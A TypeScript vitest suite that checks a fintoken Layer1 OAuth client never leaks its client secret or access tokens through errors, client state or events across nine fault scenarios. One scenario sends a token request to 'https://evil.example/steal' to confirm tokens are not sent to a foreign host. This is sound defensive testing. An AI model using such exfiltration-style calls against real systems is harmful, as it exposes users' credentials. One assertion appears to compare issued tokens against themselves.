import { inspect } from 'node:util';
import type { FintokenEvent, Token, TokenClient } from '@fintoken/core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createLayer1Client } from '../src/index.js';
import { layer1Fixture, type Layer1Fixture } from './fixture.js';

let fx: Layer1Fixture;
const events: FintokenEvent[] = [];
const tokens: Token[] = [];
const leaks = (value: unknown, planted: string[]): string[] => {
  const text = [inspect(value, { depth: Infinity, showHidden: true }), JSON.stringify(value) ?? '', `${value as string}`, (value as Error).stack ?? ''].join(' ');
  return planted.filter((p) => text.includes(p));
};
// The real sandbox secret, a planted wrong one, and every access token issued during the run.
const planted = () => [fx.sandbox.credentials.layer1.clientSecret, 'layer1-wrong-secret-PLANTED', ...tokens.map((t) => t.accessToken)];

beforeAll(async () => {
  fx = await layer1Fixture();
});
afterAll(() => fx.sandbox.close());

const client = () => fx.connect({ onEvent: (e) => events.push(e), timeoutMs: 300, retry: { attempts: 2, baseDelayMs: 1, maxDelayMs: 2 } });

type Scenario = [string, () => Promise<unknown>];
const scenarios: Scenario[] = [
  ['invalid_client', () => fx.connect({ clientSecret: 'layer1-wrong-secret-PLANTED', onEvent: (e) => events.push(e) }).getToken()],
  ['unauthorized_client', () => (fx.sandbox.faults.inject('layer1.token', { status: 403 }), client().getToken())],
  ['server error', () => (fx.sandbox.faults.inject('layer1.token', { status: 502, times: 2 }), client().getToken())],
  ['not JSON', () => (fx.sandbox.faults.inject('layer1.token', { body: 'html' }), client().getToken())],
  ['timeout', () => (fx.sandbox.faults.inject('layer1.token', { hang: true, times: 2 }), client().getToken())],
  ['dropped connection', () => (fx.sandbox.faults.inject('layer1.token', { drop: true, times: 2 }), client().getToken())],
  ['unsupported business', () => (client() as TokenClient).getToken({ businessId: 'b' })],
  ['token sent elsewhere', () => client().fetch('https://evil.example/steal')],
  ['bad options', async () => createLayer1Client({ clientId: 'c', clientSecret: fx.sandbox.credentials.layer1.clientSecret, tokenUrl: 'http://kc.example/' })],
];

it.each(scenarios)('%s: the error carries no secret and no token', async (_name, run) => {
  // Tokens to look for: the client's current one, after a refresh through a rejected API call.
  const c = client();
  tokens.push(await c.getToken());
  fx.sandbox.faults.inject('layer1.api', { status: 401, times: 2 });
  await (await c.fetch('/api/v1/tenants')).text();
  tokens.push(await c.getToken());
  fx.sandbox.faults.clear();

  const error = await run().then(
    () => expect.fail('expected a failure'),
    (e: unknown) => e,
  );
  fx.sandbox.faults.clear();
  expect(error).toHaveProperty('code');
  expect(leaks(error, planted())).toEqual([]);
  expect(leaks(c, planted())).toEqual([]);
  expect(leaks(tokens, planted())).toEqual([]);
});

it('no event of the whole run carries a secret or a token', () => {
  expect(events.length).toBeGreaterThan(10);
  expect(tokens.length).toBeGreaterThanOrEqual(2 * scenarios.length);
  expect(events.flatMap((e) => leaks(e, planted()))).toEqual([]);
});
